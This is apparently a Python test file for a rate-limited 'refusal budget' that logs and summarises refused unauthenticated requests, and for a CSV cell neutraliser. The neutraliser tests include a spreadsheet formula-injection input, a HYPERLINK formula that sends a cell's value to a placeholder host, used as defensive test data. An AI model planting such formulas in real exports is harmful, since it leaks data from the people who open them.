"""The refusal budget, sans-IO (`provisioning.refusal_budget`), and the CSV neutraliser.

The clocks are stepped by hand; the end-to-end floods are in test_anonymous_floods.py.
"""

from __future__ import annotations

import ipaddress
from collections import Counter

import pytest

from provisioning.audit.csv_safety import neutralise
from provisioning.refusal_budget import (
    BUDGETED_ROUTES,
    MAX_DEVICES,
    Budget,
    RefusalBudget,
    budgets,
)
from schemas.events import EventType, Reason
from schemas.settings import Settings

RENEW = "POST /v1/renew"
LOGIN = "POST /console/login"


def ledger(events: int = 3, *, max_keys: int = 1000) -> tuple[RefusalBudget, list[float]]:
    now = [1000.0]
    table = {route: Budget(events, per=60.0) for route in (RENEW, LOGIN)}
    return RefusalBudget(table, max_keys=max_keys, clock=lambda: now[0], wall=lambda: now[0]), now


def charge(budget: RefusalBudget, route: str | None, address: str, **kw: object) -> bool:
    fields: dict[str, object] = {"type": EventType.RENEW, "reason": Reason.NO_CLIENT_CERTIFICATE}
    return budget.charge(route, address, **{**fields, **kw})  # type: ignore[arg-type]


def test_budget_then_summaries_with_exact_counts() -> None:
    budget, now = ledger(3)
    a = "192.0.2.1"
    assert [charge(budget, RENEW, a) for _ in range(5)] == [True] * 3 + [False] * 2
    now[0] += 2
    assert not charge(budget, RENEW, a, reason=Reason.CSR_INVALID, device_id="d1")
    # Other routes and other addresses have budgets of their own; unlisted routes none.
    assert charge(budget, LOGIN, a, type=EventType.ADMIN, reason=Reason.UNAUTHORIZED)
    assert charge(budget, RENEW, "192.0.2.2")
    assert all(charge(budget, "POST /v1/tokens", a) for _ in range(10))
    assert all(charge(budget, None, a) for _ in range(10))

    summaries = {s.reason: s for s in budget.sweep()}
    assert set(summaries) == {Reason.NO_CLIENT_CERTIFICATE, Reason.CSR_INVALID}
    no_cert = summaries[Reason.NO_CLIENT_CERTIFICATE]
    assert (no_cert.route, no_cert.address, no_cert.count) == (RENEW, a, 2)
    assert no_cert.first == no_cert.last and no_cert.device_id is None and no_cert.anonymous == 2
    csr = summaries[Reason.CSR_INVALID]
    assert (csr.count, csr.devices, csr.device_id) == (1, {"d1": 1}, "d1")
    assert (csr.first - no_cert.first).total_seconds() == 2
    assert budget.sweep() == []  # counts are handed back once

    # The bucket refills at events per minute: 20 s earn one full event back.
    now[0] += 18
    assert charge(budget, RENEW, a) and not charge(budget, RENEW, a)
    assert [s.count for s in budget.sweep()] == [1]
    # A full bucket with nothing pending is forgotten.
    now[0] += 60
    budget.sweep()
    assert len(budget) == 0


def test_every_refusal_is_counted_once_under_eviction_and_many_addresses() -> None:
    budget, now = ledger(2, max_keys=100)
    total: Counter[str] = Counter()
    for i in range(5_000):
        address = str(ipaddress.IPv4Address(0x0A000000 + i))
        for _ in range(7):
            total["full" if charge(budget, RENEW, address) else "counted"] += 1
        assert len(budget) <= 100
        if i % 1000 == 999:  # a sweep now and then, as the timer does
            now[0] += 1
            total["summarised"] += sum(s.count for s in budget.sweep())
    total["summarised"] += sum(s.count for s in budget.sweep())
    assert total == {"full": 10_000, "counted": 25_000, "summarised": 25_000}


def test_devices_are_named_up_to_a_bound_and_ipv6_shares_its_64() -> None:
    budget, _ = ledger(1)
    for i in range(MAX_DEVICES + 5):
        charge(budget, RENEW, f"2001:db8::{i + 1:x}", device_id=f"d{i}")
    charge(budget, RENEW, "2001:db8::ffff", device_id="d0")
    (summary,) = budget.sweep()
    assert summary.address == "2001:db8::/64" and summary.sample == "2001:db8::ffff"
    assert summary.count == MAX_DEVICES + 5  # the first one was recorded in full
    assert len(summary.devices) == MAX_DEVICES and summary.devices["d1"] == 1
    assert summary.other_devices == 5 and summary.device_id is None


def test_the_table_covers_every_unauthenticated_route() -> None:
    table = budgets(Settings(refusal_events_per_minute=7))
    assert set(table) == set(BUDGETED_ROUTES)
    assert {"POST /v1/renew", "POST /console/login"} <= set(table)
    assert all(b == Budget(7, 60.0) for b in table.values())
    with pytest.raises(ValueError):
        RefusalBudget({RENEW: Budget(0)})


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://x/?"&A2,"x")', '\'=HYPERLINK("http://x/?"&A2,"x")'),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (5, 5),
        (-5, -5),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(cell: object, safe: object) -> None:
    assert neutralise(cell) == safe


def test_summaries_not_written_are_kept_merged_and_bounded() -> None:
    """The database is away: the sweep's summaries go back (`keep`) and come out of the next
    sweep merged with what was counted since, one per key; beyond ``max_keys`` kept keys
    they merge under the address ``*``. Not one refusal is lost."""
    budget, now = ledger(1, max_keys=4)
    a, b = "192.0.2.1", "192.0.2.2"
    for address, n in ((a, 6), (b, 4)):
        for i in range(n):
            charge(budget, RENEW, address, device_id=f"d{i % 20}")
    first = budget.sweep()
    assert sum(s.count for s in first) == 5 + 3
    budget.keep(first)  # the write failed
    assert budget.kept_refusals() == 8
    now[0] += 1  # a bucket refills one token a minute: still empty
    for i in range(MAX_DEVICES + 5):
        charge(budget, RENEW, a, device_id=f"e{i}")
    second = {s.address: s for s in budget.sweep()}
    assert set(second) == {a, b} and budget.kept_refusals() == 0
    assert (second[a].count, second[b].count) == (5 + MAX_DEVICES + 5, 3)
    assert len(second[a].devices) == MAX_DEVICES
    assert sum(second[a].devices.values()) + second[a].other_devices == second[a].count
    assert second[a].first < second[a].last
    # Many addresses while the database stays away: the kept keys stay bounded.
    for i in range(10):  # each: one refusal in full, one counted
        assert [charge(budget, RENEW, f"198.51.100.{i}") for _ in range(2)] == [True, False]
    budget.keep(list(second.values()))
    budget.keep(budget.sweep())
    kept = budget.sweep()
    assert len(kept) <= 4 + 1
    assert sum(s.count for s in kept) == second[a].count + second[b].count + 10


def test_a_refusal_in_full_that_could_not_be_written_is_counted() -> None:
    """`unwritten`: the full event of a refusal within the budget failed to be written; it
    comes out of the next sweep as a summary of one, merged with the counts of its key."""
    budget, _ = ledger(1)
    a = "192.0.2.1"
    assert charge(budget, RENEW, a, device_id="d1")  # in full ...
    assert budget.unwritten(
        RENEW, a, type=EventType.RENEW, reason=Reason.NO_CLIENT_CERTIFICATE, device_id="d1"
    )  # ... but the write failed
    assert not charge(budget, RENEW, a, device_id="d1")  # beyond the budget: counted
    (summary,) = budget.sweep()
    assert (summary.route, summary.address, summary.count) == (RENEW, a, 2)
    assert summary.devices == {"d1": 2} and summary.device_id == "d1"
    assert not budget.unwritten(
        "POST /v1/unbudgeted", a, type=EventType.RENEW, reason=Reason.NO_CLIENT_CERTIFICATE
    )
    assert not budget.unwritten(None, a, type=EventType.RENEW, reason=Reason.CSR_INVALID)
